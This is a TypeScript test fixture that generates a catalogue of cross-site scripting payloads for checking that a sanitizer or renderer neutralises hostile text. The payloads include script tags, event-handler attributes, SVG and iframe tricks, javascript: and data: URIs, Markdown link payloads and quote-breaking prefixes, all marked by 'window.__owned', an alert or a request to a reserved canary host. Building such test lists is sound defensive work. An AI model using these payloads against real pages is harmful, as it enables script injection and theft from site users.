/**
 * Texts that would run, or would ask another host for something, if any page took them for markup. Fault catalogue
 * S05: at least two hundred. Each names what it would do: `window.__owned`, a dialog, or a request to CANARY.
 */
export const CANARY = 'canary.invalid'

const RUN = 'window.__owned=1;alert(1)'
const ASK = `//${CANARY}/x`

/** Elements and attributes that run or load something by themselves. */
const MARKUP = [
  `<script>${RUN}</script>`,
  `<script src="${ASK}"></script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script/x>${RUN}</script>`,
  `<<script>${RUN}//<</script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${ASK}.png">`,
  `<img srcset="${ASK}.png 1x">`,
  `<img/src=x/onerror=${RUN}>`,
  `<image src=x onerror="${RUN}">`,
  `<svg onload="${RUN}">`,
  `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text x=20 y=20>x</text></a></svg>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe src="${ASK}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<object data="${ASK}"></object>`,
  `<embed src="${ASK}">`,
  `<video src="${ASK}" onerror="${RUN}"></video>`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror="${RUN}">`,
  `<body onload="${RUN}">`,
  `<details open ontoggle="${RUN}">`,
  `<input autofocus onfocus="${RUN}">`,
  `<select autofocus onfocus="${RUN}"></select>`,
  `<textarea autofocus onfocus="${RUN}"></textarea>`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<style>@import "${ASK}.css";</style>`,
  `<style>*{background:url(${ASK}.png)}</style>`,
  `<div style="background:url(${ASK}.png)">x</div>`,
  `<div style="animation:x 1s" onanimationstart="${RUN}">x</div>`,
  `<link rel=stylesheet href="${ASK}.css">`,
  `<link rel=preload as=image href="${ASK}.png">`,
  `<base href="http://${CANARY}/">`,
  `<meta http-equiv=refresh content="0;url=http://${CANARY}/">`,
  `<form action="${ASK}"><button autofocus onfocus="${RUN}">x</button></form>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><script>${RUN}</script></template>`,
  `<table background="${ASK}.png"><tr><td>x</table>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="java\tscript:${RUN}">x</a>`,
  `<a href="&#106;avascript:${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<a href="vbscript:${RUN}">x</a>`,
  `<x contenteditable onfocus=${RUN} autofocus tabindex=1>x</x>`,
  `<isindex action="javascript:${RUN}" type=image>`,
]

/** What Markdown makes links and pictures of. */
const MARKDOWN = [
  `[x](javascript:${RUN})`,
  `[x](JaVaScRiPt:${RUN})`,
  `[x](java%0ascript:${RUN})`,
  `[x]( javascript:${RUN})`,
  `[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19vd25lZD0xPC9zY3JpcHQ+)`,
  `[x](vbscript:${RUN})`,
  `[x](<javascript:${RUN}>)`,
  `![x](http:${ASK}.png)`,
  `![x](${ASK}.png "title")`,
  `![x][ref]\n\n[ref]: http:${ASK}.png`,
  `<javascript:${RUN}>`,
  `[x](http://a"onmouseover="${RUN})`,
]

/** Ends what the text might stand in, and goes on with what runs. */
const BREAKS = ['', '">', "'>", '</textarea>', '</title>', '</script>', '-->', '\\">', '{{', '`}']

const SHORT = MARKUP.slice(0, 18)

export const HOSTILE_TEXTS: string[] = [
  ...new Set([
    ...MARKUP,
    ...MARKDOWN,
    ...BREAKS.flatMap((before) => SHORT.map((text) => `${before}${text}`)),
  ]),
]
